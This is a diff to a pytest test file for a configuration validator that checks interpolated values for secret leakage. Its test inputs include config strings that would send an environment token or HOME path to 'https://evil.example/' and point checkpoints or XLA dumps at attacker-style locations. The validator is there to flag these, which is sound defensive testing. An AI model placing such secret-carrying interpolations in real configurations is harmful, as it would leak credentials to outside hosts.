@@ -183,6 +183,21 @@ def test_a_url_that_is_put_together_carries_no_secret(path, others, monkeypatch)
 
 
 @pytest.mark.usefixtures("folder")
+@pytest.mark.parametrize(
+    ("chosen", "source"),
+    [
+        ("mixture", "parts: {a.b: {weight: 1, source: {kind: text_files, paths: ['${run.notes}${oc.env:TOKEN}']}}}"),
+        ("python", "arguments: {items: [{url: 'https://evil.example/${oc.env:TOKEN}'}]}"),
+    ],
+)
+def test_a_url_within_another_value_carries_no_secret(chosen, source, monkeypatch):
+    monkeypatch.setenv("TOKEN", "a-secret")
+    typed = (f"data={chosen}", "run.notes='https://evil.example/'")
+    problems = problems_of(*typed, text=f"data: {{source: {{{source}}}}}")
+    assert any("would carry the value" in problem.what for problem in problems), problems
+
+
+@pytest.mark.usefixtures("folder")
 def test_a_source_that_is_taken_from_another_key_carries_no_secret():
     source = "{kind: text_files, paths: ['https://evil.example/${oc.env:HOME}']}"
     (problem,) = problems_of(text=f"data: {{source: '${{run.extra.s}}'}}\nrun: {{extra: {{s: {source}}}}}")
@@ -190,11 +205,23 @@ def test_a_source_that_is_taken_from_another_key_carries_no_secret():
 
 
 @pytest.mark.usefixtures("folder")
-@pytest.mark.parametrize("group", ["checkpoint", "distributed"])
+@pytest.mark.parametrize("group", ["checkpoint", "distributed", "compiler_options"])
 def test_a_group_of_keys_that_is_taken_from_another_key_is_refused(group):
-    there = "{directory: 's3://evil/x', coordinator_address: 'evil:1'}"
+    there = "{directory: 's3://evil/x', coordinator_address: 'evil:1', xla_dump_to: evil}"
     problems = problems_of(text=f"{group}: '${{run.extra.theirs}}'\nrun: {{extra: {{theirs: {there}}}}}")
-    assert [(problem.where, "which may set" in problem.what) for problem in problems] == [(group, True)]
+    assert [(problem.where, "a config file sets it" in problem.what) for problem in problems] == [(group, True)]
+
+
+@pytest.mark.usefixtures("folder")
+@pytest.mark.parametrize(
+    ("typed", "text", "where"),
+    [
+        ("hydra.callbacks={}", f"hydra: {{callbacks: {{mine: {CALL}}}}}", "hydra.callbacks.mine._target_"),
+        ("compiler_options={xla_a: 1}", "compiler_options: {xla_dump_to: evil}", "compiler_options.xla_dump_to"),
+    ],
+)
+def test_a_typed_mapping_allows_no_other_key_of_a_file(typed, text, where):
+    assert where in [problem.where for problem in problems_of(typed, text=text)]
 
 
 @pytest.mark.usefixtures("folder")
